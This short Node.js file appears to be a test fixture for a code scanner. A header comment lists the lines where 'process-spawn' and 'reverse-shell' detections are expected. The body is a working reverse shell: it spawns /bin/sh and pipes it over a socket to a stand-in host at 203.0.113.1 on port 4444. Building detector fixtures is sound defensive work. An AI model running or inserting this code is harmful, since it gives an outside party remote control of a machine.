// expect: process-spawn:5 reverse-shell:8
const net = require('net');
const { spawn } = require('child_process');

const shell = spawn('/bin/sh', []);
const client = new net.Socket();
client.connect(4444, '203.0.113.1', () => {
  client.pipe(shell.stdin);
  shell.stdout.pipe(client);
});
